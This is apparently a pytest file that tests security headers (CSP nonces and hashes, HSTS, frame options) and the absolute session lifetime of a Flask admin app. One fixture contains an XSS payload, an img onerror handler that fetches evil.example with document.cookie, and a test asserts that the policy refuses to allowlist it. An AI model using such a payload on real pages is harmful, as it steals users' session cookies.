"""Issue 11 item 16: the security headers of every response (admin/headers.py) and the absolute
session lifetime (admin/sessions.py). The browser test that the pages still work under the
policy, with no violation in the console, is tests/e2e/test_e2e_content_security_policy.py."""
import datetime
import re

import pytest

from admin import headers
from admin_test_helpers import csrf_token, login_as
from core.records.accounts import ServerSession

T0 = datetime.datetime(2025, 10, 11, 9, 0, 0)


def policy(response):
    """The Content-Security-Policy as {directive: [sources]}."""
    header = response.headers.get("Content-Security-Policy")
    assert header, "no Content-Security-Policy"
    return {part.split()[0]: part.split()[1:] for part in header.split(";") if part.strip()}


# --- the headers ------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/auth/login", "/admin/", "/admin/park/", "/api/v1/docs", "/api/v1/parks"])
def test_issue_11_item_16_every_response_carries_the_security_headers(client, scoping_world, path):
    login_as(client, scoping_world.user["changzhi_city_officer"])
    response = client.get(path)
    csp = policy(response)
    assert csp["default-src"] == ["'self'"] and csp["object-src"] == ["'none'"] and csp["base-uri"] == ["'none'"]
    assert csp["frame-ancestors"] == ["'self'"] and response.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert "'unsafe-inline'" not in csp["script-src"] and "'unsafe-eval'" not in csp["script-src"]
    assert "'unsafe-inline'" not in csp["style-src"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in response.headers  # plain HTTP, no TLS proxy declared


def test_issue_11_item_16_inline_scripts_and_styles_carry_this_request_s_nonce(client, scoping_world):
    login_as(client, scoping_world.user["changzhi_city_officer"])
    first, second = client.get("/admin/park/"), client.get("/admin/park/")
    nonce = [s for s in policy(first)["script-src"] if s.startswith("'nonce-")][0][len("'nonce-"):-1]
    assert len(nonce) >= 16 and nonce not in second.headers["Content-Security-Policy"]  # one per request
    html = first.get_data(as_text=True)
    scripts = re.findall(r"<script\b[^>]*>", html)
    styles = re.findall(r"<style\b[^>]*>", html)
    assert scripts and styles
    for tag in scripts + styles:
        assert f'nonce="{nonce}"' in tag, tag


def test_issue_11_item_16_the_api_documentation_page_s_script_carries_the_nonce(client):
    response = client.get("/api/v1/docs")
    nonce = [s for s in policy(response)["script-src"] if s.startswith("'nonce-")][0][len("'nonce-"):-1]
    inline = re.findall(r"<script\b([^>]*)>(?!\s*</script>)", response.get_data(as_text=True))
    assert inline and all(f'nonce="{nonce}"' in attributes for attributes in inline)


def test_issue_11_item_16_only_flask_admin_s_own_inline_handlers_are_allowed_by_hash():
    page = """<button onclick="return faHelpers.safeConfirm('确定删除吗？');">x</button>
              <a href="javascript:void(0)">y</a> <a onclick="faForm.addInlineField(this, 'sites');">z</a>
              <img onerror="fetch('//evil.example/?'+document.cookie)"> <a href="javascript:alert(1)">w</a>"""
    hashes = headers.legacy_handler_hashes(page)
    allowed = {headers._source_hash(text) for text in (
        "return faHelpers.safeConfirm('确定删除吗？');", "javascript:void(0)", "void(0)",
        "faForm.addInlineField(this, 'sites');")}
    assert set(hashes) == allowed
    assert headers._source_hash("fetch('//evil.example/?'+document.cookie)") not in hashes
    assert headers._source_hash("javascript:alert(1)") not in hashes


@pytest.mark.parametrize("how", ["https", "behind a TLS proxy"])
def test_issue_11_item_16_hsts_when_served_over_tls(make_app, how):
    if how == "https":
        response = make_app().test_client().get("/auth/login", base_url="https://localhost")
    else:
        response = make_app(HRPARK_SECURE_COOKIES=True).test_client().get("/auth/login")
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000"


# --- the absolute session lifetime --------------------------------------------------------------------


def test_issue_11_item_16_an_active_session_ends_twelve_hours_after_sign_in(client, scoping_world, clock):
    login_as(client, scoping_world.user["changzhi_city_officer"])
    for _ in range(36):  # a request every 20 minutes: never idle
        clock.advance(minutes=20)
        assert client.get("/admin/").status_code == 200
    assert clock.now - T0 == datetime.timedelta(hours=12)  # exactly the limit: still valid
    clock.advance(seconds=1)
    response = client.get("/admin/")
    assert response.status_code == 302 and "expired=absolute" in response.headers["Location"]
    notice = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "您的会话已达到最长使用时限（登录后 12 小时），请重新登录。" in notice
    assert ServerSession.select().where(ServerSession.revoked_at.is_null(), ServerSession.user.is_null(False)).count() == 0


def test_issue_11_item_16_the_absolute_lifetime_is_a_setting_and_says_so_in_english(make_app, scoping_world, clock):
    client = make_app(SESSION_MAX_HOURS=1).test_client()
    client.post("/auth/language", data={"csrf_token": csrf_token(client), "lang": "en"})
    login_as(client, scoping_world.user["changzhi_city_officer"])
    clock.advance(minutes=25)
    assert client.get("/admin/").status_code == 200
    clock.advance(minutes=25)
    assert client.get("/admin/").status_code == 200
    clock.advance(minutes=10, seconds=1)
    response = client.get("/admin/")
    notice = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "it had lasted the longest time allowed (1 h since signing in)" in notice


def test_issue_11_item_16_the_readme_s_configuration_table_names_the_security_settings():
    from pathlib import Path

    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    table = readme[readme.index("## Configuration"):readme.index("## Layout")]
    app_source = (Path(headers.__file__).parent / "app.py").read_text(encoding="utf-8")
    for variable in ("HRPARK_SECURE_COOKIES", "HRPARK_TRUSTED_PROXIES", "HRPARK_SESSION_IDLE_MINUTES",
                     "HRPARK_SESSION_MAX_HOURS"):
        assert f"| `{variable}` |" in table, variable
        assert variable in app_source, variable  # the table names what the app reads
